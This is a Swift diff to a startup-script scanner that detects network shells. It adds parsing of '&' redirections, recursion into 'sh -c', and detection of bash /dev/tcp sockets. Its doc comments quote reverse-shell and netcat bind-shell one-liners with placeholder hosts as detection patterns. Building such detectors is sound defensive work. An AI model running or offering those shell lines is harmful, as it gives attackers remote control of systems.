@@ -26,6 +26,7 @@ enum StartupCommand {
 
     /// Splits a line into commands (at `;`, `&`, `|`, `(`, `)`, backquotes) and each command
     /// into words, quotes removed. `variables` are expanded where a word is `$NAME` or `${NAME}`.
+    /// An `&` that makes a redirection (`2>&1`, `<&5`, `>&`, `&>`) stays in its word.
     static func pipelines(_ line: String, variables: [String: String] = [:]) -> [[String]] {
         var commands: [[String]] = [[]]
         var word = ""
@@ -39,7 +40,8 @@ enum StartupCommand {
             }
             word = ""
         }
-        for character in line {
+        let characters = Array(line)
+        for (index, character) in characters.enumerated() {
             if let open = quote {
                 if character == open { quote = nil } else { word.append(character) }
                 continue
@@ -47,6 +49,8 @@ enum StartupCommand {
             switch character {
             case "\"", "'": quote = character
             case " ", "\t", "\r": endWord()
+            case "&" where word.hasSuffix(">") || word.hasSuffix("<") || (index + 1 < characters.count && characters[index + 1] == ">"):
+                word.append(character)
             case ";", "&", "|", "(", ")", "`":
                 endWord()
                 if !(commands.last?.isEmpty ?? true) { commands.append([]) }
@@ -68,13 +72,17 @@ enum StartupCommand {
     }
 
     /// What the commands of one line start. A pipeline counts as a whole for netcat feeding a
-    /// shell (`cat f | /bin/sh -i | nc -l -p 23 > f`).
-    static func launches(_ commands: [[String]]) -> [Launch] {
+    /// shell (`cat f | /bin/sh -i | nc -l -p 23 > f`), and for a shell on a socket that bash
+    /// opens itself: a line that redirects to `/dev/tcp/` or `/dev/udp/` and runs an interactive
+    /// shell or one reading from a descriptor (`bash -i >& /dev/tcp/HOST/PORT 0>&1`,
+    /// `exec 5<>/dev/tcp/HOST/PORT; sh <&5 >&5`). A shell's `-c` command is read the same way.
+    static func launches(_ commands: [[String]], depth: Int = 0) -> [Launch] {
         var found: [Launch] = []
         let lineHasShellCommand = commands.contains { command in
             guard let program = program(of: command) else { return false }
             return isShell(command[program])
         }
+        let lineOpensSocket = commands.contains { $0.contains { $0.contains("/dev/tcp/") || $0.contains("/dev/udp/") } }
         for command in commands {
             guard let index = program(of: command) else { continue }
             var program = Substring(command[index])
@@ -84,7 +92,14 @@ enum StartupCommand {
             let name = basename(program)
             let arguments = Array(command[(index + 1)...]).filter { $0 != "--" }
             let text = command[index...].joined(separator: " ")
-            if telnetServers.contains(name) {
+            if isShell(name) {
+                let onSocket = arguments.contains { $0 == "-i" || $0.hasPrefix("<&") || $0.hasPrefix("0<&") }
+                if lineOpensSocket, onSocket {
+                    found.append(.networkShell(text))
+                } else if depth == 0, let flag = arguments.firstIndex(of: "-c"), flag + 1 < arguments.count {
+                    found += launches(pipelines(arguments[flag + 1]), depth: 1)
+                }
+            } else if telnetServers.contains(name) {
                 if let shell = loginProgram(arguments), isShell(shell) { found.append(.networkShell(text)) } else {
                     found.append(.passwordLogin(server: text, allowsEmpty: false))
                 }
@@ -111,9 +126,11 @@ enum StartupCommand {
     }
 
     /// The index of the program a command runs: the first word that is not an assignment, a
-    /// wrapper (`exec`, `nohup`, `busybox`, `start-stop-daemon … --exec`) or an option of one.
+    /// wrapper (`exec`, `nohup`, `busybox`, `start-stop-daemon … --exec`), a shell keyword that
+    /// starts a command (`then`, `do`, `!`) or an option of one.
     static func program(of command: [String]) -> Int? {
-        let wrappers: Set<String> = ["exec", "nohup", "busybox", "setsid", "nice", "env", "sudo", "chroot"]
+        let wrappers: Set<String> = ["exec", "nohup", "busybox", "setsid", "nice", "env", "sudo", "chroot",
+                                     "if", "then", "else", "elif", "while", "until", "do", "!", "{", "time"]
         var index = 0
         while index < command.count {
             let word = command[index]
